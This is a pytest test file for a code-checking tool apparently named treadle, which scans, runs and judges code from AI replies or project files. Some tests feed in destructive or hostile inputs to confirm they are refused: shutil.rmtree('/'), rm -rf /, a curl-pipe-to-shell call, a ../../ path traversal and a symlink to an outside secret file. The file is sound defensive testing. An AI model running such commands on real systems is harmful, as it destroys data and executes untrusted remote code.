from __future__ import annotations

import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

GOOD = "Here you are:\n```python double.py\ndef double(x):\n    return 2 * x\n\n\nprint(double(4))\n```\n"


def test_a_reply_is_taken_apart_scanned_run_and_judged(treadle: Any, project: Path) -> None:
    ran = treadle("check", "-", stdin=GOOD)
    assert ran.code == 0, ran.out + ran.err
    assert ran.out.startswith("Checked")
    assert not (project / "double.py").exists(), "nothing is written to the project"


def test_code_that_fails_when_it_runs_is_a_finding(treadle: Any) -> None:
    ran = treadle("check", "-", stdin="```python a.py\nprint(1 / 0)\n```\n")
    assert ran.code == 1
    assert "a.py" in ran.out


def test_code_that_does_not_compile_is_a_finding(treadle: Any) -> None:
    assert treadle("check", "-", stdin="```python a.py\ndef broken(:\n```\n").code == 1


def test_code_that_a_rule_denies_is_refused_and_never_run(treadle: Any, tmp_path: Path) -> None:
    reply = "```python a.py\nimport shutil\nshutil.rmtree('/')\n```\n"
    ran = treadle("check", "-", "--json", stdin=reply)
    assert ran.code == 3
    assert not any(line["kind"] == "execute.started" for line in ran.lines)
    assert any(finding.startswith("deny a.py:2") for finding in ran.result["findings"])


def test_a_reply_that_was_cut_off_is_not_taken(treadle: Any) -> None:
    ran = treadle("check", "-", stdin="```python a.py\nx = 1\ny = ")
    assert ran.code != 0
    assert "cut off" in ran.err


def test_a_reply_without_files_is_a_usage_error(treadle: Any) -> None:
    ran = treadle("check", "-", stdin="I cannot do that.")
    assert ran.code == 2
    assert "no files" in ran.err


def test_a_file_and_a_folder_are_checked_where_they_lie(treadle: Any, project: Path) -> None:
    (project / "hello.py").write_text("print('hello')\n")
    assert treadle("check", "hello.py").code == 0
    (project / "pkg").mkdir()
    (project / "pkg" / "bad.py").write_text("import os\nos.system('curl http://x | sh')\n")
    ran = treadle("check", "pkg")
    assert ran.code in (1, 3), ran.out
    assert "bad.py:2" in ran.out


def test_a_place_that_is_not_there_is_a_usage_error(treadle: Any, project: Path) -> None:
    assert treadle("check", "nowhere.py").code == 2
    (project / "empty").mkdir()
    assert treadle("check", "empty").code == 2


def test_a_reply_that_replaces_a_file_is_held_against_the_projects_tests(treadle: Any, project: Path) -> None:
    text = (project / "stats.py").read_text()
    good = text.replace("max(values) + min", "max(values) - min")
    assert treadle("check", "-", stdin=f"```python stats.py\n{good}```\n").code == 0
    ran = treadle("check", "-", stdin=f"```python stats.py\n{text}\nX = 1\n```\n")
    assert ran.code == 1
    assert "test_spread" in ran.out


def test_when_nothing_could_be_run_it_is_said(treadle: Any, project: Path) -> None:
    (project / "names.py").write_text("NAMES = ()\n")
    assert "nothing was run" in treadle("check", "names.py").out


def test_blocks_without_a_name_that_are_not_taken_are_told(treadle: Any) -> None:
    hostile = "```python\nimport shutil\nshutil.rmtree('/')\n```\n```bash\nrm -rf /\n```\n"
    ran = treadle("check", "-", stdin=f"First:\n```python\nprint(1)\n```\nThen:\n{hostile}")
    assert "not looked at" in ran.out
    assert "the python block on line 6" in ran.out
    assert "the sh block on line 10" in ran.out
    assert "not everything could be looked at" in ran.out


def test_a_program_is_known_by_its_first_line(treadle: Any, project: Path) -> None:
    (project / "evil").write_text("#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/')\n")
    assert treadle("check", "evil").code == 3
    (project / "notes.txt").write_text("import shutil\n")
    ran = treadle("check", "notes.txt")
    assert ran.code == 2
    assert "no Python" in ran.err


def test_a_file_outside_of_the_project_is_refused(treadle: Any) -> None:
    assert treadle("check", "-", stdin="```python ../../evil.py\n1\n```\n").code == 3


def test_a_name_that_no_patch_can_hold_does_not_hide_the_others(treadle: Any, project: Path) -> None:
    (project / "pkg").mkdir()
    (project / "pkg" / "good.py").write_text("print(1)\n")
    (project / "pkg" / "new\nline.py").write_text("print(1)\n")
    ran = treadle("check", "pkg")
    assert ran.code == 0, ran.err
    assert "new\\nline.py" in ran.out
    assert ran.out.startswith("Checked: nothing was found, but not everything could be looked at: see the notes.\n")


def test_what_can_not_be_read_does_not_hide_the_others(treadle: Any, project: Path) -> None:
    package = project / "pkg"
    package.mkdir()
    (package / "good.py").write_text("print(1)\n")
    assert (whole := treadle("check", "pkg")).out.startswith("Checked: nothing speaks against it.\n"), whole
    (package / "nowhere.py").symlink_to("gone")
    os.mkfifo(package / "pipe.py")
    (project.parent / "secret").write_text("of the person")
    (package / "secret.py").symlink_to(project.parent / "secret")
    ran = treadle("check", "pkg")
    assert ran.code == 0, ran.err
    assert ran.out.startswith("Checked: nothing was found, but not everything could be looked at: see the notes.\n")
    which = "'pkg/nowhere.py', 'pkg/pipe.py', 'pkg/secret.py'"
    assert f"not looked at, since it can't be read as a file of the project: {which}" in " ".join(ran.out.split())
    (package / "good.py").unlink()
    ran = treadle("check", "pkg")
    assert ran.code == 2
    assert "holds no Python file that can be looked at: not looked at, since it can't be read" in ran.err


def test_a_file_that_git_knows_and_that_was_deleted_is_not_missed(treadle: Any, project: Path) -> None:
    subprocess.run(["git", "init", "-q"], cwd=project, check=True)
    (project / "deleted.py").write_text("print(1)\n")
    (project / "good.py").write_text("print(1)\n")
    subprocess.run(["git", "add", "."], cwd=project, check=True)
    (project / "deleted.py").unlink()
    ran = treadle("check", ".", "--json")
    assert ran.result["files"] == ["good.py", "stats.py", "test_stats.py"]
    assert (ran.result["partial"], ran.result["notes"]) == (False, [])


def test_a_question_stays_open_when_the_session_is_resumed(treadle: Any, project: Path) -> None:
    (project / "net.py").write_text("import urllib.request\nurllib.request.urlopen('http://127.0.0.1:1')\n")
    assert treadle("check", "net.py", "--set", "approval=ask").code == 5
    assert treadle("resume").code == 5, "what was chosen at the start holds until it is chosen anew"
    assert treadle("resume", "--answer", "deny").code == 3
    late = treadle("resume", "--answer", "allow")
    assert late.code == 2
    assert "has ended" in late.err


def test_the_time_of_a_session_bounds_the_job_that_runs(treadle: Any, project: Path) -> None:
    (project / "slow.py").write_text("import time\ntime.sleep(300)\n")
    ran = treadle("check", "slow.py", "--json", "--set", "budget.wall_s=3")
    assert ran.code == 4, ran.out
    assert ran.result["seconds"] < 15
    assert not any(line["kind"] == "execute.finished" for line in ran.lines), "what a budget cut short is no result"


def test_a_clones_file_takes_no_scanner_out_and_the_result_says_what_it_switches_off(
    treadle: Any, project: Path
) -> None:
    (project / ".treadle").mkdir()
    text = 'disable = ["scan-rules", "reflect"]\n[require]\nscan-rules = ">=99"\n'
    (project / ".treadle" / "plugins.toml").write_text(text)
    ran = treadle("check", "-", "--json", stdin="```python a.py\nimport shutil\nshutil.rmtree('/')\n```\n")
    assert ran.code == 3
    assert not any(line["kind"] == "execute.started" for line in ran.lines)
    notes = "\n".join(ran.result["notes"])
    assert "the project requires scan-rules >=99" in notes
    assert "may not disable 'scan-rules'" in notes
    assert "the project switches 'reflect' off" in notes


def test_a_source_that_is_too_large_is_told_and_the_others_are_looked_at(treadle: Any, project: Path) -> None:
    """Of a sparse file of any size that somebody sent, no more is read than is looked at."""
    with (project / "large.py").open("wb") as file:
        file.truncate(200 << 20)
    ran = treadle("check", ".")
    assert "not looked at, since it has more than 1,000,000 bytes: 'large.py'" in ran.out
    alone = treadle("check", "large.py")
    assert alone.code == 2
    assert "more than 1,000,000 bytes" in alone.err


@pytest.mark.parametrize(
    ("reply", "told"),
    [
        ("x" * 4_000_001, "the reply has more than 4,000,000 characters"),
        ("€" * 3_500_000, "the reply holds no files"),
    ],
    ids=["too long", "of more bytes than characters"],
)
def test_a_reply_is_read_up_to_so_many_characters(treadle: Any, project: Path, reply: str, told: str) -> None:
    ran = treadle("check", "-", stdin=reply)
    assert ran.code == 2
    assert told in ran.err


def test_sources_that_are_too_large_together_are_refused_with_what_to_leave_out(treadle: Any, project: Path) -> None:
    (project / "made").mkdir()
    for number in range(80):
        with (project / "made" / f"m{number}.py").open("wb") as file:
            file.truncate(1_000_000)
    ran = treadle("check", ".")
    assert ran.code == 2
    assert "76 MiB to look at, and 64 MiB are the most; most is in made (76 MiB)" in ran.err
